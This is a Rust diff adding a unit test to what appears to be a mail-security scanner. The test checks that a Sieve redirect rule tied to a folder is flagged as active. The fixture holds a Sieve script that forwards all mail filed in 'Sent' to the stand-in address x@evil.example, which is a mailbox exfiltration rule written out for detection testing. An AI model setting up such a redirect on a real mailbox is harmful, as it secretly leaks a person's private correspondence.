@@ -175,4 +175,22 @@ mod tests {
         assert_eq!(redirect.state, State::Active);
         assert!(redirect.conditions.contains("stored in folder \"Sent\""), "{}", redirect.conditions);
     }
+
+    #[test]
+    fn a_script_acts_as_the_events_of_its_folder_let_it() {
+        let source = "require [\"environment\", \"imapsieve\"];\n\
+                      if environment :is \"imap.mailbox\" \"Sent\" { redirect \"x@evil.example\"; }\n";
+        let of = |folder: &str| {
+            let seen = [
+                annotation("jane@example.test", folder, "fwd2"),
+                script("jane@example.test", "fwd2", false, source),
+            ];
+            let report = judged(&seen, &[]);
+            let redirect = report.findings.iter().find(|found| found.check_id == "sieve.redirect-external");
+            redirect.map(|found| found.state)
+        };
+        assert_eq!(of("Sent"), Some(State::Active));
+        assert_ne!(of("Drafts"), Some(State::Active), "it never runs for that folder");
+        assert_eq!(of(""), Some(State::Active), "any folder may be the one");
+    }
 }
